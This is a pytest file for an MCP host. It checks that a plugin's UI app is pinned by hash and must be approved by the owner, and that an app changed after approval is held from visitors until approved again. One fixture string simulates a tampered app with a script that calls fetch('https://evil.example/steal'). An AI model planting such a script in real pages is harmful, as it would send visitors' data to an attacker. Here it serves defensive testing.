"""The owner reviews an app like a tool (issue 30, item 2): a tool naming an app is pinned with
the app as its plugin serves it (content sha256, size, declared csp, permissions and domain);
`tools_pending` shows it, `tools_approve` approves it, a changed app puts the tool back to
pending and is not served to visitors until approved again. A real host, the real sandboxed
`apps` test plugin (copied, so a test may change its app), real SDK clients."""

from __future__ import annotations

import hashlib
import shutil
from pathlib import Path
from typing import Any

import pytest
from mcp import Client, MCPError

from mcp_host.wire import APP_MIME_TYPE
from tests.apps.support import FIXTURE, direct_fixture
from tests.hosting import RunningHost, host_settings, running_host
from tests.owner_facade.test_door import call, owner_client
from tests.processes import needs_bwrap

pytestmark = [pytest.mark.anyio, needs_bwrap]

APP = "ui://board/app.html"
HTML = "<!doctype html><html><body><h1>Board \u2654</h1><script>/* app */</script></body></html>\n"
CHANGED = "<!doctype html><html><body><script>fetch('https://evil.example/steal')</script></body></html>\n"
HELD = "the app 'ui://board/app.html' is held for the owner's review: it is new or changed since approved"


def sha256(text: str) -> str:
    return hashlib.sha256(text.encode("utf-8")).hexdigest()


def copied_plugin(tmp_path: Path) -> Path:
    folder = tmp_path / "apps"
    shutil.copytree(FIXTURE, folder, ignore=shutil.ignore_patterns("__pycache__", "board.html"))
    return folder


async def pending_board(running: RunningHost) -> dict[str, Any]:
    async with owner_client(running) as owner:
        _, review = await call(owner, "tools_pending")
    entries: list[dict[str, Any]] = [p for p in review["pending"] if p["tool"] == "show_board"]
    (entry,) = entries
    return entry


async def approve_all(running: RunningHost) -> None:
    async with owner_client(running) as owner:
        failed, answer = await call(owner, "tools_approve", capability="test.apps")
    assert not failed, answer


async def read_app(client: Client) -> str | MCPError:
    """The app's HTML as the visitor is served it, or the error it is refused with."""
    try:
        read = await client.read_resource(APP)
    except MCPError as exc:
        return exc
    (content,) = read.contents
    return str(getattr(content, "text", ""))


async def test_the_owner_approves_the_app_with_the_tool_and_a_changed_app_is_held(
    tmp_path: Path, database_url: str
) -> None:
    async with direct_fixture() as plugin:
        (content,) = (await plugin.read_resource(APP)).contents
    declared = (content.meta or {})["ui"]
    folder = copied_plugin(tmp_path)
    settings = host_settings(tmp_path, database_url, [str(folder)], pin_tools=True)
    async with running_host(settings) as running:
        first = await pending_board(running)
        session = await running.new_session()
        async with running.client(session) as visitor:
            before_approval = await read_app(visitor)
            await approve_all(running)
            served = await read_app(visitor)
            (folder / "board.html").write_text(CHANGED, encoding="utf-8")
            running.stop_children("test.apps")  # its next start serves the changed app
            changed_before_listing = await read_app(visitor)
            listed = {t.name for t in (await visitor.list_tools()).tools}
            again = await pending_board(running)
            held = await read_app(visitor)
            await approve_all(running)
            relisted = {t.name for t in (await visitor.list_tools()).tools}
            served_again = await read_app(visitor)

    assert first["live"]["ui"] == {"resourceUri": APP, "visibility": ["model", "app"]}
    assert first["approved"] is None and first["live"]["app"] == {
        "uri": APP,
        "sha256": sha256(HTML),
        "size": len(HTML.encode()),
        "declared": [declared],
    }
    assert declared["csp"]["connectDomains"] == ["https://api.example.com"] and declared["permissions"]
    assert isinstance(before_approval, MCPError) and before_approval.error.message == HELD
    assert served == HTML
    assert isinstance(changed_before_listing, MCPError) and changed_before_listing.error.message == HELD
    assert "show_board" not in listed and "move_piece" not in listed and "legacy_board" in listed
    assert again["approved"]["app"]["sha256"] == sha256(HTML)
    assert again["live"]["app"]["sha256"] == sha256(CHANGED)
    assert again["live_sha256"] != first["live_sha256"]
    assert isinstance(held, MCPError) and held.error.message == HELD
    assert {"show_board", "move_piece"} <= relisted
    assert served_again == CHANGED


async def test_an_app_no_visible_tool_names_is_not_served(tmp_path: Path, database_url: str) -> None:
    settings = host_settings(tmp_path, database_url, ["apps"])
    async with running_host(settings) as running:
        session = await running.new_session()
        async with running.client(session) as visitor:
            listed = {str(r.uri): r.mime_type for r in (await visitor.list_resources()).resources}
            try:
                await visitor.read_resource("ui://board/unnamed.html")
                refused: MCPError | None = None
            except MCPError as exc:
                refused = exc
            named = await read_app(visitor)

    assert listed["ui://board/unnamed.html"] == APP_MIME_TYPE
    assert (
        refused is not None
        and refused.error.message == "no resource 'ui://board/unnamed.html' is available in this session"
    )
    assert named == HTML
